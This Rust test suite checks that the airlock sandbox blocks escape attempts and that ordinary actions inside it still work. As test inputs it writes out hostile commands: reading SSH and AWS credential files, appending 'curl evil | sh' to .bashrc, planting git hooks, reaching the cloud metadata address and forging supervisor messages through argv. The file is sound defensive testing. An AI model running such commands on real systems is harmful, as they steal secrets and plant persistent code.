//! The escape suite (SPEC §4, §8): every case runs a real command under
//! `airlock run`, in real namespaces, and asserts that the attack fails
//! *and* that the legitimate neighbour still works.

use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use airlock_tests::*;

/// Where fixtures live: outside /tmp, because the sandbox's /tmp is
/// private (and the checkout itself may be under /tmp).
fn base() -> PathBuf {
    std::env::var_os("AIRLOCK_TEST_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-escape"))
}

fn fixture() -> Fixture {
    Fixture::new_in(&base())
}

/// The probe, copied next to the fixtures so the sandbox can see it even
/// when the build directory is under /tmp.
fn probe() -> String {
    probe_in(&base())
}

fn lines(out: &Out) -> String {
    format!("--- stdout\n{}--- stderr\n{}", out.stdout, out.stderr)
}

fn expect(out: &Out, line: &str) {
    assert!(
        out.stdout.lines().any(|l| l == line),
        "expected {line:?}\n{}",
        lines(out)
    );
}

const SECRET: &str = "TOP-SECRET-KEY-MATERIAL";

fn with_secrets() -> Fixture {
    let f = fixture();
    f.write("~/.ssh/id_ed25519", SECRET);
    f.write("~/.aws/credentials", SECRET);
    f.write("~/notes.txt", "ordinary home file");
    f
}

#[test]
fn secrets_are_unreadable_but_home_is_not() {
    let f = with_secrets();
    let out = f.run(
        &["--network", "none"],
        "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; ls -A ~/.ssh; echo; cat ~/notes.txt",
    );
    assert!(
        !out.stdout.contains(SECRET) && !out.stderr.contains(SECRET),
        "{}",
        lines(&out)
    );
    assert!(out.stdout.contains("ordinary home file"), "{}", lines(&out));
    assert!(!out.stdout.contains("id_ed25519"), "{}", lines(&out));
}

#[test]
fn links_in_the_workspace_do_not_leak_secrets() {
    let f = with_secrets();
    std::os::unix::fs::symlink(f.home.join(".ssh/id_ed25519"), f.ws.join("pre-made-link")).unwrap();
    let out = f.run(
        &["--network", "none"],
        "cat pre-made-link; ln -s ~/.aws/credentials new-link; cat new-link; \
         ln ~/.ssh/id_ed25519 hard 2>/dev/null && cat hard; echo neighbour > ok.txt; cat ok.txt",
    );
    assert!(!out.stdout.contains(SECRET), "{}", lines(&out));
    assert!(out.stdout.contains("neighbour"), "{}", lines(&out));
}

#[test]
fn writes_outside_the_workspace_fail() {
    let f = fixture();
    let outside = tempfile::tempdir_in(base()).unwrap();
    let target = outside.path().join("planted");
    let script = format!(
        "echo x > {t} ; echo x > ~/planted ; echo x > /etc/airlock-planted ; echo inside > inside.txt ; cat inside.txt",
        t = target.display()
    );
    let out = f.run(&["--network", "none"], &script);
    assert!(
        !target.exists()
            && !f.home.join("planted").exists()
            && !Path::new("/etc/airlock-planted").exists()
    );
    assert!(out.stdout.contains("inside"), "{}", lines(&out));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("inside.txt")).unwrap(),
        "inside\n"
    );
}

#[test]
fn shell_rc_through_a_symlink_is_protected() {
    let f = fixture();
    f.write("~/.bashrc", "# original\n");
    std::os::unix::fs::symlink(f.home.join(".bashrc"), f.ws.join("rc")).unwrap();
    let out = f.run(
        &["--network", "none"],
        "echo 'curl evil | sh' >> rc; echo 'x' >> ~/.bashrc; echo done",
    );
    assert_eq!(
        std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
        "# original\n",
        "{}",
        lines(&out)
    );
    assert!(out.stdout.contains("done"));
}

fn git(ws: &Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .args(args)
        .current_dir(ws)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", ws)
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(ok, "git {args:?}");
}

#[test]
fn git_hooks_and_config_are_protected_while_commit_works() {
    let f = fixture();
    git(&f.ws, &["init", "-q"]);
    git(&f.ws, &["config", "user.email", "t@example.test"]);
    git(&f.ws, &["config", "user.name", "t"]);
    let config_before = std::fs::read_to_string(f.ws.join(".git/config")).unwrap();
    let out = f.run(
        &["--network", "none"],
        "echo 'evil' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; \
         echo work > file.txt && git add file.txt && git -c commit.gpgsign=false commit -qm work && echo committed",
    );
    assert!(out.stdout.contains("committed"), "{}", lines(&out));
    assert!(
        !f.ws.join(".git/hooks/pre-commit").exists(),
        "{}",
        lines(&out)
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".git/config")).unwrap(),
        config_before
    );
}

#[test]
fn read_only_workspace() {
    let f = fixture();
    f.write("existing.txt", "keep");
    let out = f.run(
        &["--network", "none", "--read-only"],
        "echo x > new.txt; echo y > existing.txt; cat existing.txt",
    );
    assert!(!f.ws.join("new.txt").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws.join("existing.txt")).unwrap(),
        "keep"
    );
    assert!(out.stdout.contains("keep"), "{}", lines(&out));
}

#[test]
fn workspace_under_tmp_is_bound_back() {
    let f = Fixture::new_in(&std::env::temp_dir().join("airlock-escape"));
    f.write("in-tmp.txt", "visible");
    let out = f.run(
        &["--network", "none"],
        "cat in-tmp.txt; echo made > made.txt; ls /tmp",
    );
    assert!(out.stdout.contains("visible"), "{}", lines(&out));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("made.txt")).unwrap(),
        "made\n"
    );
}

#[test]
fn kernel_surface() {
    let f = fixture();
    let me = std::process::id();
    let script = format!(
        "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; \
         ls /proc | grep -cE '^[0-9]+$'; test -e /proc/{me} && echo HOST-PID-VISIBLE; {p} syscalls",
        p = probe()
    );
    let out = f.run(&["--network", "none"], &script);
    for l in [
        "CapEff:\t0000000000000000",
        "CapPrm:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
        "Seccomp:\t2",
    ] {
        expect(&out, l);
    }
    assert!(!out.stdout.contains("HOST-PID-VISIBLE"), "{}", lines(&out));
    let count: usize = out
        .stdout
        .lines()
        .find_map(|l| l.parse().ok())
        .unwrap_or(999);
    assert!(count < 10, "{count} pids visible\n{}", lines(&out));
    for refused in [
        "io_uring_setup",
        "keyctl",
        "add_key",
        "bpf",
        "perf_event_open",
        "userfaultfd",
        "ptrace",
        "process_vm_readv",
        "mount",
        "umount2",
        "fsopen",
        "open_tree",
        "setns",
        "unshare_user",
        "unshare_net",
        "personality_set",
        "socket_packet",
        "socket_raw",
        "socket_vsock",
        "socket_netlink_audit",
    ] {
        expect(&out, &format!("{refused}: EPERM"));
    }
    expect(&out, "clone3: ENOSYS");
    // The neighbours: ordinary sockets, route netlink, personality queries.
    for allowed in [
        "socket_inet_stream",
        "socket_unix",
        "socket_netlink_route",
        "personality_query",
    ] {
        expect(&out, &format!("{allowed}: ok"));
    }
}

#[test]
fn tiocsti_is_refused_on_a_real_pty() {
    let f = fixture();
    let out = f.run(&["--network", "none"], &format!("{} tiocsti", probe()));
    expect(&out, "open_slave: ok");
    expect(&out, "tiocsti: EPERM");
    expect(&out, "tiocgwinsz: ok");
}

#[test]
fn host_sockets_are_unreachable() {
    let f = fixture();
    let run_dir = if is_root() {
        PathBuf::from("/run")
    } else {
        base()
    };
    let run_sock = run_dir.join(format!("airlock-escape-{}.sock", std::process::id()));
    let tmp_sock = std::env::temp_dir().join(format!("airlock-escape-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&run_sock);
    let _ = std::fs::remove_file(&tmp_sock);
    let _l1 = UnixListener::bind(&run_sock).unwrap();
    let _l2 = UnixListener::bind(&tmp_sock).unwrap();
    let abstract_name = format!("airlock-escape-{}", std::process::id());
    let _l3 = {
        use std::os::linux::net::SocketAddrExt;
        let addr =
            std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        UnixListener::bind_addr(&addr).unwrap()
    };
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let p = probe();
    let script = format!(
        "{p} connect-unix {}; {p} connect-unix {}; {p} connect-abstract {abstract_name}; \
         {p} connect-tcp {}; {p} send-udp {}; \
         python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.bind(\"own.sock\"); s.listen(1); c=socket.socket(socket.AF_UNIX); c.connect(\"own.sock\"); print(\"own_unix: ok\")' 2>/dev/null || {p} connect-unix /nonexistent",
        run_sock.display(),
        tmp_sock.display(),
        tcp.local_addr().unwrap(),
        udp.local_addr().unwrap()
    );
    let out = f.run(&["--network", "none"], &script);
    let _ = std::fs::remove_file(&run_sock);
    let _ = std::fs::remove_file(&tmp_sock);
    for l in [
        "connect_unix: ok",
        "connect_abstract: ok",
        "connect_tcp: ok",
    ] {
        assert!(!out.stdout.lines().any(|x| x == l), "{l}\n{}", lines(&out));
    }
    assert!(
        out.stdout.matches("connect_unix: ENOENT").count() >= 2,
        "{}",
        lines(&out)
    );
    let mut buf = [0u8; 16];
    assert!(udp.recv_from(&mut buf).is_err(), "a UDP datagram escaped");
    tcp.set_nonblocking(true).unwrap();
    assert!(tcp.accept().is_err(), "a TCP connection escaped");
}

#[test]
fn environment_secrets_are_scrubbed() {
    let f = fixture();
    let mut cmd = f.command(&["--network", "none"], "env");
    cmd.env("GITHUB_TOKEN", "ghp_secret")
        .env("AWS_SECRET_ACCESS_KEY", "aws_secret")
        .env("MY_PASSWORD", "pw")
        .env("SSH_AUTH_SOCK", "/run/agent")
        .env("LANG", "C.UTF-8");
    let out = run(&mut cmd);
    for gone in [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "MY_PASSWORD",
        "SSH_AUTH_SOCK",
        "ghp_secret",
        "aws_secret",
    ] {
        assert!(!out.stdout.contains(gone), "{gone} leaked\n{}", lines(&out));
    }
    for kept in ["LANG=C.UTF-8", "AIRLOCK_SANDBOX=1", "PATH="] {
        assert!(out.stdout.contains(kept), "{kept} missing\n{}", lines(&out));
    }
}

#[test]
fn nothing_outlives_the_run() {
    let f = fixture();
    let tag = format!("{}", 3000 + std::process::id() % 1000);
    let script = format!(
        "sleep {tag}1 & nohup sleep {tag}2 >/dev/null 2>&1 & setsid sleep {tag}3 & (sleep {tag}4 &) ; echo started"
    );
    let out = f.run(&["--network", "none"], &script);
    assert!(out.stdout.contains("started"), "{}", lines(&out));
    std::thread::sleep(Duration::from_millis(200));
    for i in 1..=4 {
        assert!(
            !process_running(&format!("sleep {tag}{i}")),
            "sleep {tag}{i} survived"
        );
    }
}

#[test]
fn exit_codes_timeout_and_signals() {
    let f = fixture();
    assert_eq!(f.run(&["--network", "none"], "exit 7").code, 7);
    assert_eq!(f.run(&["--network", "none"], "true").code, 0);
    assert_eq!(
        f.run(&["--network", "none"], "kill -TERM $$").code,
        128 + 15
    );
    assert_eq!(f.run(&["--network", "none"], "kill -KILL $$").code, 128 + 9);
    let t = Instant::now();
    let out = f.run(&["--network", "none", "--timeout", "1s"], "sleep 30");
    assert_eq!(out.code, 124, "{}", lines(&out));
    assert!(t.elapsed() < Duration::from_secs(10));
    let missing = f.run(&["--network", "none"], "exec /nonexistent/program");
    assert_eq!(missing.code, 127);
}

#[test]
fn network_goes_through_the_proxy_only() {
    let f = fixture();
    let origin = Origin::start("origin");
    let p = origin.port();
    let allow = format!("origin.test:{p}");
    let report = f.home.join("report.json");
    let audit = f.home.join("audit.jsonl");
    let script = format!(
        "{pr} http http://origin.test:{p}/ok; {pr} http http://blocked.test:{p}/; {pr} connect-tcp 127.0.0.1:{p}; {pr} send-udp 127.0.0.1:{p}",
        pr = probe()
    );
    let out = f.run(
        &[
            "--allow",
            &allow,
            "--resolve",
            "origin.test=127.0.0.1",
            "--allow-private",
            "127.0.0.0/8",
            "--ask",
            "deny",
            "--report",
            report.to_str().unwrap(),
            "--audit-log",
            audit.to_str().unwrap(),
        ],
        &script,
    );
    expect(&out, "http: HTTP/1.1 200 OK");
    expect(&out, "http: HTTP/1.1 403 Forbidden");
    // Direct TCP to the host's loopback reaches the sandbox's own loopback, where nothing listens.
    expect(&out, "connect_tcp: ECONNREFUSED");
    assert_eq!(
        origin.hits(),
        1,
        "only the proxied request may reach the origin"
    );
    assert!(
        out.stderr.contains(&format!(
            "airlock: blocked 1 connection: blocked.test:{p} (not-allowlisted)"
        )),
        "{}",
        lines(&out)
    );
    let rep: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(rep["exit_code"], 0);
    assert_eq!(rep["tier"], "linux-namespaces");
    assert_eq!(rep["blocked"][0]["host"], "blocked.test");
    // --ask deny asks nobody (SPEC §5.2).
    assert_eq!(rep["blocked"][0]["reason"], "not-allowlisted");
    assert!(rep["blocked"][0]["how_to_allow"]
        .as_str()
        .unwrap()
        .contains("--allow blocked.test"));
    assert!(rep["protected_paths"]["deny_read"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p.as_str().unwrap().ends_with("/.ssh")));
    // The audit log names the command that connected.
    let events = audit_events(&audit);
    let allowed = events
        .iter()
        .find(|e| e["event"] == "decision" && e["decision"] == "allow")
        .expect("allow event");
    let argv = allowed["command"]["argv"]
        .as_array()
        .expect("command attributed");
    assert!(argv.iter().any(|a| a == "http"), "{allowed}");
}

#[test]
fn network_none_leaves_no_way_out() {
    let f = fixture();
    let origin = Origin::start("origin");
    let script = format!(
        "echo proxy=${{HTTP_PROXY:-unset}}; {p} connect-tcp 127.0.0.1:3128; {p} connect-tcp 127.0.0.1:{}",
        origin.port(),
        p = probe()
    );
    let out = f.run(&["--network", "none"], &script);
    expect(&out, "proxy=unset");
    assert!(!out.stdout.contains("connect_tcp: ok"), "{}", lines(&out));
    assert_eq!(origin.hits(), 0);
}

#[test]
fn metadata_address_is_unreachable() {
    if !blackhole("169.254.169.254/32") {
        eprintln!("skipped: needs root and iproute2 to blackhole 169.254.169.254 first");
        return;
    }
    let f = fixture();
    let script = format!(
        "{p} connect-tcp 169.254.169.254:80; {p} http http://169.254.169.254/latest/meta-data/; {p} http http://metadata.test/",
        p = probe()
    );
    let out = f.run(
        &[
            "--allow",
            "169.254.169.254",
            "--allow",
            "metadata.test",
            "--resolve",
            "metadata.test=169.254.169.254",
        ],
        &script,
    );
    // A raw connect either fails, or (transparent capture, SPEC §5.5)
    // reaches only airlock's capture listener, which refuses it.
    assert!(
        out.stdout
            .lines()
            .any(|l| l.starts_with("connect_tcp: ") && l != "connect_tcp: ok")
            || out
                .stderr
                .contains("169.254.169.254:80 (private-address) x2"),
        "{}",
        lines(&out)
    );
    assert_eq!(
        out.stdout.matches("http: HTTP/1.1 403 Forbidden").count(),
        2,
        "{}",
        lines(&out)
    );
    assert!(out.stderr.contains("private-address"), "{}", lines(&out));
}

#[test]
fn an_ordinary_user_gets_the_same_boundary() {
    if !is_root() {
        // Not root: every other test in this file already ran as an ordinary user.
        return;
    }
    let f = with_secrets();
    for d in [&f.home, &f.ws] {
        let _ = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(d)
            .status();
    }
    let _ = std::process::Command::new("chmod")
        .args(["o+rx"])
        .arg(base())
        .status();
    let cmd = f.command(
        &["--network", "none"],
        "id -u; cat ~/.ssh/id_ed25519; cat ~/notes.txt; echo; grep -E '^(CapEff|NoNewPrivs):' /proc/self/status; echo ok > w.txt && echo wrote",
    );
    let program = cmd.get_program().to_owned();
    let args: Vec<_> = cmd.get_args().map(|a| a.to_owned()).collect();
    let mut as_user = std::process::Command::new("setpriv");
    as_user
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(program)
        .args(args);
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => as_user.env(k, v),
            None => as_user.env_remove(k),
        };
    }
    as_user
        .current_dir(&f.ws)
        .stdin(std::process::Stdio::null());
    let out = run(&mut as_user);
    expect(&out, "65534");
    assert!(!out.stdout.contains(SECRET), "{}", lines(&out));
    assert!(out.stdout.contains("ordinary home file"), "{}", lines(&out));
    expect(&out, "CapEff:\t0000000000000000");
    expect(&out, "NoNewPrivs:\t1");
    expect(&out, "wrote");
}

#[test]
fn extra_write_paths_and_an_explicit_workspace() {
    let f = fixture();
    let extra = tempfile::tempdir_in(base()).unwrap();
    let other_ws = tempfile::tempdir_in(base()).unwrap();
    let script = format!(
        "echo a > {e}/a.txt && echo wrote-extra; echo b > {o}/b.txt && echo wrote-workspace; pwd",
        e = extra.path().display(),
        o = other_ws.path().display()
    );
    let out = f.run(
        &[
            "--network",
            "none",
            "--write",
            extra.path().to_str().unwrap(),
            "--workspace",
            other_ws.path().to_str().unwrap(),
        ],
        &script,
    );
    expect(&out, "wrote-extra");
    expect(&out, "wrote-workspace");
    // It runs where it was started (SPEC §2), a readable directory here,
    // not in the workspace it names.
    expect(&out, &f.ws.display().to_string());
    // The directory airlock was started in is not writable when another workspace is named.
    let out = f.run(
        &[
            "--network",
            "none",
            "--workspace",
            other_ws.path().to_str().unwrap(),
        ],
        &format!("echo c > {}/c.txt", f.ws.display()),
    );
    assert!(!f.ws.join("c.txt").exists(), "{}", lines(&out));
}

#[test]
fn network_host_warns_and_is_refused_by_a_managed_policy() {
    let f = fixture();
    let out = f.run(&["--network", "host"], "echo in-host-mode");
    expect(&out, "in-host-mode");
    assert!(out.stderr.contains("--network host"), "{}", lines(&out));
    let managed = f.write("~/managed.toml", "require_sandbox = true\n");
    let mut cmd = f.command(&["--network", "host"], "echo should-not-run");
    cmd.env("AIRLOCK_MANAGED_POLICY", &managed);
    let out = run(&mut cmd);
    assert_eq!(out.code, 125, "{}", lines(&out));
    assert!(!out.stdout.contains("should-not-run"));
    assert!(
        out.stderr.contains("requires the sandbox"),
        "{}",
        lines(&out)
    );
}

#[test]
fn the_ca_key_never_enters_the_sandbox() {
    let f = fixture();
    let ca = f.home.join(".local/share/airlock/ca");
    std::fs::create_dir_all(&ca).unwrap();
    std::fs::write(ca.join("ca-key.pem"), SECRET).unwrap();
    let out = f.run(
        &["--network", "none"],
        "cat ~/.local/share/airlock/ca/ca-key.pem; echo done",
    );
    assert!(!out.stdout.contains(SECRET), "{}", lines(&out));
    expect(&out, "done");
}

#[test]
fn a_home_workspace_cannot_edit_airlocks_own_policy() {
    let f = fixture();
    let policy = f.write("~/.config/airlock/policy.toml", "[network]\nallow = []\n");
    // The workspace is HOME itself.
    let out = f.run(
        &["--network", "none", "--workspace", f.home.to_str().unwrap()],
        "cd \"$HOME\"; echo 'allow = [\"evil.test\"]' >> .config/airlock/policy.toml; echo ok > scratch.txt && echo wrote",
    );
    expect(&out, "wrote");
    assert_eq!(
        std::fs::read_to_string(&policy).unwrap(),
        "[network]\nallow = []\n",
        "{}",
        lines(&out)
    );
}

#[test]
fn airlocks_config_dir_is_protected_even_before_it_exists() {
    let f = fixture();
    let out = f.run(
        &["--network", "none", "--workspace", f.home.to_str().unwrap()],
        "cd \"$HOME\"; mkdir -p .config/airlock; echo 'x' > .config/airlock/policy.toml; echo done",
    );
    expect(&out, "done");
    assert!(
        !f.home.join(".config/airlock/policy.toml").exists(),
        "{}",
        lines(&out)
    );
}

#[cfg(target_arch = "x86_64")]
#[test]
fn foreign_architecture_syscalls_are_killed() {
    // Outside the sandbox a 32-bit getpid through int 0x80 works (where the
    // kernel has IA-32 emulation); inside, the filter kills the process.
    let outside = run(std::process::Command::new(probe()).arg("int80"));
    if !outside.stdout.starts_with("int80: returned ") {
        eprintln!(
            "skipped: this kernel has no IA-32 emulation ({})",
            outside.code
        );
        return;
    }
    let f = fixture();
    let out = f.run(
        &["--network", "none"],
        &format!("{} int80; echo status=$?", probe()),
    );
    assert!(!out.stdout.contains("int80: returned"), "{}", lines(&out));
    expect(&out, &format!("status={}", 128 + libc::SIGSYS));
}

#[test]
fn killing_the_supervisor_takes_the_sandbox_with_it() {
    let f = fixture();
    let tag = format!("{}", 5000 + std::process::id() % 1000);
    let mut child = f
        .command(
            &["--network", "none"],
            &format!("sleep {tag}7 & sleep {tag}8"),
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    assert!(
        process_running(&format!("sleep {tag}8")),
        "the sandbox did not start"
    );
    child.kill().unwrap(); // SIGKILL: no chance to clean up
    let _ = child.wait();
    let deadline = Instant::now() + Duration::from_secs(5);
    while (process_running(&format!("sleep {tag}7")) || process_running(&format!("sleep {tag}8")))
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        !process_running(&format!("sleep {tag}7")),
        "a background process outlived the supervisor"
    );
    assert!(
        !process_running(&format!("sleep {tag}8")),
        "the command outlived the supervisor"
    );
}

/// The command's argv reaches airlock's own messages (an exec error names
/// it): a newline in it must not start a line the supervisor obeys, such
/// as a forged exit status or a forged airlock warning. Both tiers, root
/// and uid 65534 (the script execs the hostile name, so that argv[0] is
/// exactly the command's choice).
#[test]
fn argv_cannot_forge_the_helpers_messages() {
    use airlock_tests::tiers::{command, command_argv, show, users, TIERS};
    for tier in TIERS {
        for user in users() {
            let f = fixture();
            let hostile =
                "nope\nstatus: 0\ndeny-read-appeared: link /root/.ssh/id_ed25519\nerror: FORGED";
            let out = run(&mut command_argv(
                &f,
                tier,
                user,
                &["--network", "none"],
                &[hostile],
            ));
            let ctx = format!("{tier:?} as_user={user}\n{}", show(&out));
            assert_ne!(out.code, 0, "{ctx}");
            assert!(!out.stderr.contains("(deny_read) appeared"), "{ctx}");
            assert!(
                !out.stderr.contains("sandbox setup failed: FORGED"),
                "{ctx}"
            );
            // The allowed neighbour: a command's own status still comes through.
            let out = run(&mut command(
                &f,
                tier,
                user,
                &["--network", "none"],
                "exit 7",
            ));
            assert_eq!(out.code, 7, "{}", show(&out));
        }
    }
}
